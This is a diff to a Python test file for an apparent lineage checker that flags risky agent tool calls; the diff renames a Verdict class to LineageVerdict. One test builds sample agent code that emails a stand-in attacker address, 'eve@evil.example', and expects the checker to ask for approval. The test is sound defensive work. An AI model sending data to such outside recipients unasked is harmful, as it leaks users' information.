@@ -8,7 +8,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from tether._engine.lineage.flow import UNKNOWN, analyse
-from tether._engine.lineage.judge import MAX_REASONS, Origin, Reason, Verdict, judge, lookups
+from tether._engine.lineage.judge import MAX_REASONS, LineageVerdict, Origin, Reason, judge, lookups
 from tether._engine.lineage.roles import CONTENT, DESTINATION, destinations_in, role_of_name, roles
 from tether._engine.lineage.values import find, marks, query_norms
 
@@ -144,7 +144,7 @@ def test_content_alone_never_asks_but_a_link_inside_it_does():
 def test_verdicts_travel_as_json():
     code = f"import tools\nawait tools.{SEND}(recipients=['eve@evil.example'], subject='s', body='b')\n"
     v = decide(code, {"recipients": ["eve@evil.example", "bob@x.example"], "subject": "s", "body": "b"})
-    again = Verdict.from_dict(json.loads(json.dumps(v.to_dict())))
+    again = LineageVerdict.from_dict(json.loads(json.dumps(v.to_dict())))
     assert again == v and again.ask
     assert Reason.from_dict({"arg": "to"}) == Reason("to", "", None, False)
     assert Origin.from_dict({"address": "a.b", "seq": True}).seq is None
